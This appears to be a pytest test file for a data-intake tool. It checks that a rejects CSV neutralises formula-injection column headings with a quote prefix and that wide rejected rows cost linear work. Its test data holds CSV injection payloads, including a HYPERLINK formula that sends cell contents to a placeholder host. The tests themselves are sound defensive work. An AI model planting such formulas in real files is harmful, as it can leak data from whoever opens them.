"""The rejects CSV: a hostile heading is defused, and a wide row costs linear work (issue 13)."""

from __future__ import annotations

import csv
import io
from pathlib import Path
from types import SimpleNamespace

import pytest

from intake_fixtures import intake_data, run_cli
from intlhub.base.sanitize import FORMULA_STARTS
from intlhub.bench.wide import NOTE  # a market note refused for its empty section
from intlhub.intake import submissions
from intlhub.intake.rejects import Rejection, rejects_csv

HOSTILE_HEADINGS = [
    '=HYPERLINK("http://example.invalid/?x="&A1,"clique")',
    "@SUM(1+1)",
    "+1+1",
    "-1+1",
    "\tcmd",
    "\rcmd",
]


@pytest.fixture
def data_path(tmp_path, monkeypatch) -> Path:
    return intake_data(tmp_path, monkeypatch)


def ingest_note(capsys, data_path: Path, headings: list[str], cells: list[str]) -> list[list[str]]:
    """Ingest one market note with extra columns; return the rejects CSV as rows of cells."""
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow([*NOTE, *headings])
    writer.writerow([*NOTE.values(), *cells])
    source = data_path.parent / "notes.csv"
    source.write_text(out.getvalue(), encoding="utf-8")
    code, out, _ = run_cli(
        capsys, "ingest", str(source), "--form", "market-note", "--data", str(data_path)
    )
    assert code == 1 and "row 2, field 'section'" in out
    path = next((data_path.parent / "private" / "rejects").glob("*.csv"))
    return list(csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig"), newline="")))


def test_a_hostile_column_name_is_defused_in_the_rejects_header(capsys, data_path):
    header, *rows = ingest_note(capsys, data_path, HOSTILE_HEADINGS, ["x"] * len(HOSTILE_HEADINGS))
    assert len(rows) == 1
    live = [cell for cell in header if cell.startswith(FORMULA_STARTS)]
    assert live == [], "a heading that starts a formula must get a ' prefix"
    for heading in HOSTILE_HEADINGS[:4]:  # the reader strips the tab and CR of the others
        assert "'" + heading in header, f"{heading!r} is kept, as text"


def test_every_heading_of_rejects_csv_is_defused():
    raw = {heading: "1" for heading in HOSTILE_HEADINGS}
    refused = SimpleNamespace(number=2, raw=raw, problems=[Rejection(2, None, "t", "why", "fix")])
    header, row = csv.reader(io.StringIO(rejects_csv([refused]).decode("utf-8-sig"), newline=""))
    assert header[4:] == ["'" + heading for heading in HOSTILE_HEADINGS]
    assert row[4:] == ["1"] * len(HOSTILE_HEADINGS)


def test_a_wide_refused_row_is_read_once(capsys, data_path, monkeypatch):
    """Count the cells turned into text: once per cell, not once per cell per column."""
    calls = []
    real_as_text = submissions.as_text
    monkeypatch.setattr(
        submissions, "as_text", lambda value: calls.append(1) or real_as_text(value)
    )
    columns = 20_000
    headings = [f"extra-{n:05d}" for n in range(columns)]
    header, row = ingest_note(capsys, data_path, headings, [str(n % 10) for n in range(columns)])
    assert len(header) == 4 + len(NOTE) + columns - 1  # the empty section cell is not kept
    assert row[-1] == str((columns - 1) % 10)
    assert len(calls) <= columns + 2 * len(NOTE), f"{len(calls):,} cells read for {columns:,}"
